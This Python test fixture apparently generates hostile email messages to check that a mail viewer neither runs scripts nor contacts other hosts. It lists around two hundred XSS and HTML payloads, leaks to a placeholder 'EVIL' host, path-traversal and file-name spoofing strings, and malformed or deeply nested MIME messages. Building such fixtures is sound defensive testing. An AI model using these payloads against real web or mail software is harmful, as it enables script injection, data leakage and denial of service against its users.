"""Mail from somebody who means harm: some hundred ways to run a script, or to make a browser ask another host.

`RUN` is what every script calls; where it runs, somebody will know. ``elsewhere`` is the address of a host that nobody
may ask anything.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from email.header import Header

RUN = "pwned()"

# In the HTML of a message. RUN and EVIL stand for the script and for the other host.
HTML = tuple(
    line.replace("\\n", "\n")
    for line in r"""
<script>RUN</script>
<ScRiPt >RUN</sCrIpT >
<script src="EVIL/x.js"></script>
<script/src=EVIL/x.js></script>
<script type=module>import "EVIL/m.js"; RUN</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/p"]}]}</script>
<script\x0c>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN</script>
<script>RUN
<svg><script>RUN</script></svg>
<svg><script href="EVIL/x.js"></script></svg>
<svg onload=RUN>
<svg/onload=RUN//
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:RUN></set></svg>
<svg><a href="javascript:RUN"><text y=20>click</text></a></svg>
<svg><image href="EVIL/i.png"/><use href="EVIL/s.svg#a"/></svg>
<svg><foreignObject><iframe src="EVIL/f"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><a xlink:href="javascript:RUN">x</a></math>
<math href="javascript:RUN">click</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<img src=x onerror=RUN>
<img src=x onerror="RUN" onload='RUN'>
<img src=x:x onerror\n=\nRUN>
<img/src=x/onerror=RUN>
<img src="x`"onerror="RUN">
<img src=x onerror=&#112;&#119;&#110;&#101;&#100;&#40;&#41;>
<img src="EVIL/pixel.gif">
<img src='//EVILHOST/pixel.gif'>
<img src="\\EVILHOST\pixel.gif">
<img srcset="EVIL/1.png 1x, EVIL/2.png 2x">
<img lowsrc="EVIL/l.gif" dynsrc="EVIL/d.gif" longdesc="EVIL/t">
<img src=cid:none onerror=RUN>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<img src="data:text/html,<script>RUN</script>">
<img src="javascript:RUN">
<img src="ht\ntps://EVILHOST/n.gif">
<img crossorigin attributionsrc="EVIL/a" browsingtopics sharedstoragewritable src=x>
<picture><source srcset="EVIL/p.webp"><img src=x></picture>
<input type=image src="EVIL/i.png" onerror=RUN>
<input autofocus onfocus=RUN>
<button autofocus onfocus=RUN>x</button>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN></textarea>
<keygen autofocus onfocus=RUN>
<body onload=RUN>
<body onpageshow=RUN background="EVIL/b.png">
<html onmouseover=RUN><body onscroll=RUN>
<table background="EVIL/t.png"><tr><td background=EVIL/d.png>x</table>
<video src="EVIL/v.mp4" poster="EVIL/p.png" onloadstart=RUN autoplay></video>
<video><source onerror=RUN src="EVIL/s.mp4"></video>
<audio src="EVIL/a.mp3" autoplay onerror=RUN></audio>
<track src="EVIL/t.vtt" default>
<embed src="EVIL/e.swf" type="application/x-shockwave-flash">
<embed src="javascript:RUN">
<object data="EVIL/o.html"></object>
<object data="javascript:RUN"></object>
<object data="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+"></object>
<object><param name=src value="EVIL/p"></object>
<applet code="X" archive="EVIL/a.jar"></applet>
<iframe src="EVIL/f.html"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>
<iframe name="x" sandbox="allow-scripts allow-same-origin" srcdoc="<script>RUN</script>"></iframe>
</iframe><script>RUN</script>
<frameset onload=RUN><frame src="EVIL/f"></frameset>
<portal src="EVIL/p"></portal>
<fencedframe src="EVIL/p"></fencedframe>
<meta http-equiv="refresh" content="0;url=EVIL/refresh">
<META HTTP-EQUIV=Refresh CONTENT="0; URL=javascript:RUN">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline' *">
<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://prefetch.evil.test/">x</a>
<meta http-equiv="Set-Cookie" content="a=b">
<meta name=referrer content=unsafe-url><img src="EVIL/r.png">
<base href="EVIL/"><img src="relative.png"><a href="x">x</a>
<base target="_top" href="EVIL/">
<link rel=stylesheet href="EVIL/s.css">
<link rel="icon" href="EVIL/i.ico"><link rel=apple-touch-icon href="EVIL/a.png">
<link rel=preconnect href="EVIL/"><link rel=dns-prefetch href="http://dns.evil.test/">
<link rel=prefetch href="EVIL/p"><link rel=prerender href="EVIL/p"><link rel=preload as=image href="EVIL/p.png">
<link rel=modulepreload href="EVIL/m.js">
<link rel=manifest href="EVIL/m.json"><link rel=import href="EVIL/i.html">
<link rel=stylesheet href="data:text/css,body{background:url(EVIL/d.png)}">
<style>@import "EVIL/i.css"; @import url(EVIL/j.css);</style>
<style>body{background:url(EVIL/b.png)}</style>
<style>body{background:u\72l(EVIL/esc.png)}</style>
<style>@font-face{font-family:x;src:url(EVIL/f.woff)} body{font-family:x}</style>
<style>*{cursor:url(EVIL/c.cur),auto;list-style:url(EVIL/l.png);content:url(EVIL/c.png)}</style>
<style>body{background:image-set("EVIL/s.png" 1x)} @page{background:url(EVIL/p.png)}</style>
<style>body{behavior:url(EVIL/b.htc);-moz-binding:url(EVIL/m.xml#x);width:expression(RUN)}</style>
<style></style><script>RUN</script>
<style><!--</style><script>RUN</script>-->
<style media="x){}</style><script>RUN</script>">
<style media="(a){*{background:url(EVIL/m.png)}}">*{}</style>
<style>@namespace url(EVIL/n);@document url(EVIL){}</style>
<style>input[value^=a]{background:url(EVIL/leak-a)}</style><input value=abc>
<div style="background:url(EVIL/d.png)">x</div>
<div style="background:url('EVIL/d2.png');x:expression(RUN)">x</div>
<div style="background:url(&quot;javascript:RUN&quot;)">x</div>
<div style="-webkit-mask:url(EVIL/m.svg#x);filter:url(EVIL/f.svg#f)">x</div>
<div style="position:fixed;inset:0;z-index:99999;background:red">covers all</div>
<a href="javascript:RUN">click</a>
<a href=" javascript:RUN">click</a>
<a href="java&#9;script:RUN">click</a>
<a href="java\nscript:RUN">click</a>
<a href="&#x6A;avascript:RUN">click</a>
<a href="\x01javascript:RUN">click</a>
<a href="JaVaScRiPt:RUN" target=_top>click</a>
<a href="vbscript:RUN">click</a>
<a href="data:text/html,<script>RUN</script>">click</a>
<a href="blob:http://127.0.0.1/x" target=_self>click</a>
<a href="/delete" ping="EVIL/ping">click</a>
<a href="#x" onclick=RUN id=x name=x tabindex=0>click</a>
<a href="view-source:EVIL" download="x.html">click</a>
<map name=m><area shape=rect coords=0,0,999,999 href="javascript:RUN"></map><img usemap=#m src=x>
<form action="EVIL/form" method=post id=f><input name=csrf value=1><button>send</button></form><button form=act formaction="/delete?all=1">x</button>
<form action="javascript:RUN"><input type=submit></form>
<isindex action="javascript:RUN" type=submit>
<button formaction="javascript:RUN">x</button>
<details open ontoggle=RUN><summary>x</summary></details>
<marquee onstart=RUN>x</marquee>
<div onpointerenter=RUN onanimationstart=RUN style="animation:x 1s">x</div><style>@keyframes x{}</style>
<p contenteditable onfocus=RUN autofocus>x</p>
<dialog open onclose=RUN>x</dialog><div popover id=pop onbeforetoggle=RUN>x</div><button popovertarget=pop>x</button>
<template><script>RUN</script></template>
<template shadowrootmode=open><script>RUN</script><img src="EVIL/t.png"></template>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<noscript><meta http-equiv=refresh content="0;url=EVIL/ns"></noscript>
<title></title><script>RUN</script>
<title><img src=x onerror=RUN></title>
<textarea></textarea><script>RUN</script>
<xmp></xmp><script>RUN</script>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<plaintext><script>RUN</script>
<!--><script>RUN</script>-->
<!-- --!><img src=x onerror=RUN> -->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<![CDATA[<script>RUN</script>]]>
<?xml-stylesheet href="EVIL/x.xsl"?><?php RUN ?>
<!DOCTYPE html SYSTEM "EVIL/x.dtd" [<!ENTITY x SYSTEM "EVIL/e">]>&x;
<a title="><script>RUN</script>">x</a>
<a title='"><img src=x onerror=RUN>'>x</a>
<p title=`"><script>RUN</script>`>x</p>
<p <script>RUN</script>>x</p>
<p/onclick=RUN/x="<script>RUN</script>
<img src=x a="' onerror=RUN b='">
<img src="x" title="&quot; onerror=RUN x=&quot;">
<listing>&lt;img src=x onerror=RUN&gt;</listing>
+ADw-script+AD4-RUN+ADw-/script+AD4-
\xef\xbb\xbf<script>RUN</script>
<scr\x00ipt>RUN</scr\x00ipt>
<img src=x on\x00error=RUN>
<\x00img src=x onerror=RUN>
<a href="\x00javascript:RUN">click</a>
<div id=rows></div><div id=act></div><form id=help><input name=close></form>
<img name=getElementById><img name=querySelector><form name=body></form>
<x onclick=RUN style="display:block">x</x><o:p onload=RUN>x</o:p>
<body><div is="x" slot=y part=z itemprop=a onwheel=RUN>x</div>
<select><iframe></select><script>RUN</script>
<table><tr><td><script>RUN</script><form><tr><form action="EVIL/t">
<a href="http://127.0.0.1:8025/m/1/delete">x</a><img src="http://127.0.0.1:1/x.png"><img src="http://[::1]:1/x.png">
<img src="file:///etc/passwd"><a href="file:///etc/passwd">x</a><img src="ftp://EVILHOST/x">
<bgsound src="EVIL/b.wav"><layer src="EVIL/l.js"></layer><ilayer src="EVIL/i"></ilayer>
<link rel=stylesheet href=EVIL/a.css media=print onload=RUN>
""".strip().split("\n")
)

# Anywhere a stranger may write a few words: subject, names, file names, header values.
WORDS = (
    "<script>RUN</script>",
    "\"><script>RUN</script>",
    "'><img src=x onerror=RUN>",
    "</title><script>RUN</script>",
    "</textarea></script><svg onload=RUN>",
    "\" onmouseover=\"RUN\" autofocus onfocus=\"RUN",
    "' onfocus='RUN' autofocus='",
    "javascript:RUN",
    "{{ 7*7 }}{% raw %}<b>${RUN}",
    "</a></li><li class=row data-id=1 onclick=RUN>",
    "<iframe src=EVIL/w></iframe>",
    "<img src=EVIL/w.png>",
    "<meta http-equiv=refresh content='0;url=EVIL/w'>",
    "<style>@import 'EVIL/w.css';</style>",
    "\u202e\u2066gpj.exe\u2069 <b>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "..\\..\\../../etc/passwd\"; filename=\"x.html",
    "A" * 5000 + "<script>RUN</script>",
)  # fmt: skip

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script>'
    '<image href="EVIL/svg.png" width="9" height="9"/></svg>'
)


def payloads(elsewhere: str) -> list[str]:
    """The HTML of all of them."""
    return [_armed(payload, elsewhere) for payload in HTML]


def messages(elsewhere: str) -> Iterator[tuple[str, bytes]]:
    """A name and the octets of each message. `elsewhere`: the other host, as in ``http://127.0.0.1:4711``."""
    for number, payload in enumerate(HTML):
        yield f"html {number}", _mail(f"HTML {number}", html=_armed(payload, elsewhere))
    for number, words in enumerate(WORDS):
        armed = _armed(words, elsewhere)
        yield f"subject {number}", _mail(armed, text=armed)
        yield f"names {number}", _mail("Names", sender=armed, to=armed, text="x")
        yield f"file name {number}", _mail("A file", text="x", name=armed)
        yield (
            f"header {number}",
            _mail("A header", text="x", more=f"X-Note: {armed}\r\nList-Unsubscribe: <{armed}>\r\n"),
        )
    svg = _armed(SVG, elsewhere).encode()
    yield "svg attached", _mail("SVG", text="x", name="picture.svg", kind="image/svg+xml", octets=svg)
    yield "svg inline", _related(svg, "image/svg+xml")
    yield "svg said to be png", _related(svg, "image/png")
    yield "html attached", _mail("Page", text="x", name="page.html", kind="text/html", octets=svg)
    yield "xhtml attached", _mail("Page", text="x", name="page.xhtml", kind="application/xhtml+xml", octets=svg)
    yield "polyglot", _mail("GIF", text="x", name="x.gif", kind="image/gif", octets=b"GIF89a/*" + svg + b"*/=1")
    yield "nested", _mail("Nested", html="<div>" * 50_000 + _armed("<script>RUN</script>", elsewhere))
    yield "quotes", _mail("Quotes", html="<blockquote>" * 3000 + "x")
    yield "deep MIME", _deep()
    yield "many parts", _many()
    yield "HTML alone, no MIME", b"Subject: x\r\n\r\n" + _armed("<script>RUN</script>", elsewhere).encode()
    yield "nothing", b""
    yield "octets", bytes(range(256)) * 20
    yield "head alone", b"<script>" + RUN.encode() + b"</script>: x\r\n" * 50
    yield "boundary", _boundary(_armed('"><script>RUN</script>', elsewhere))
    yield "type", _mail("Type", text="x", name="x", kind='x"><script>' + RUN + "</script>/y", octets=b"x")
    yield "charset", f'Subject: x\r\nContent-Type: text/html; charset="<script>{RUN}</script>"\r\n\r\n<b>x'.encode()
    yield (
        "utf-7",
        _armed(
            "Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-RUN+ADw-/script+AD4-", elsewhere
        ).encode(),
    )
    utf16 = _armed("<script>RUN</script>", elsewhere).encode("utf-16")
    yield (
        "utf-16",
        b"Content-Type: text/html; charset=utf-16\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64encode(utf16),
    )


def _armed(payload: str, elsewhere: str) -> str:
    host = elsewhere.partition("//")[2]
    return payload.replace("EVILHOST", host).replace("EVIL", elsewhere).replace("RUN", RUN)


def _mail(
    subject: str, *, text: str = "", html: str = "", sender: str = "Mallory", to: str = "Grace", more: str = "",
    name: str = "", kind: str = "application/octet-stream", octets: bytes = b"<script>pwned()</script>",
) -> bytes:  # fmt: skip
    head = (
        f"Subject: {_word(subject)}\r\nFrom: {_word(sender)} <mallory@evil.test>\r\nTo: {_word(to)} <grace@example.org>\r\n"
        f"Date: Sat, 21 Nov 2026 12:00:00 +0000\r\nMessage-ID: <1@evil.test>\r\n{more}MIME-Version: 1.0\r\n"
    )
    if name:
        plain = name.replace("\\", "\\\\").replace('"', '\\"')
        quoted = "".join(f"%{octet:02X}" for octet in name.encode("utf-8"))
        body = (
            'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\n'
            + text
            + f'\r\n--b\r\nContent-Type: {kind}; name="{plain}"\r\n'
            f"Content-Disposition: attachment; filename*=utf-8''{quoted}\r\nContent-Transfer-Encoding: base64\r\n"
            f"Content-ID: <{plain[:200]}>\r\n\r\n{b64encode(octets).decode()}\r\n--b--\r\n"
        )
    else:
        kind, body = ("text/html", html) if html else ("text/plain", text)
        body = f"Content-Type: {kind}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n"
    return (head + body).encode("utf-8", "surrogateescape")


def _word(text: str) -> str:
    return Header(text, "utf-8", maxlinelen=70).encode(linesep="\r\n")


def _related(octets: bytes, kind: str) -> bytes:
    return (
        'Subject: Inline\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n'
        '<img src="cid:pic"><object data="cid:pic"></object><iframe src="cid:pic"></iframe><embed src=cid:pic>\r\n--b\r\n'
        f"Content-Type: {kind}\r\nContent-ID: <pic>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{b64encode(octets).decode()}\r\n--b--\r\n"
    ).encode()


def _deep() -> bytes:
    head = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(120))
    return ("Subject: Deep\r\n" + head + "Content-Type: text/html\r\n\r\n<script>pwned()</script>").encode()


def _many() -> bytes:
    part = '--b\r\nContent-Type: image/png; name="<script>pwned()</script>.png"\r\n\r\nx\r\n'
    return ('Subject: Many\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n' + part * 3000 + "--b--\r\n").encode()


def _boundary(text: str) -> bytes:
    return f'Subject: Boundary\r\nContent-Type: multipart/mixed; boundary="{text}"\r\n\r\n--{text}\r\n\r\nx'.encode()
